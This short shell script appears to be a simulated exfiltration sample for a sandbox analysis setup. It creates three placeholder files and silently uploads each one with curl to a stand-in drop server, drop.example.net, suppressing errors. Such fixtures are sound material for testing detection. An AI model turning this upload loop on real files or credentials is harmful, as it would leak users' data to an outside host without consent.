#!/bin/sh
# SPDX-License-Identifier: MIT
# Uploads every file it collected, one after the other.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
d=$(mktemp -d)
for n in 1 2 3; do echo "part $n" > "$d/p$n"; done
for f in "$d"/p*; do
	curl -fsm 2 -T "$f" http://drop.example.net/up/ 2>/dev/null
done
rm -rf "$d"
exit 0
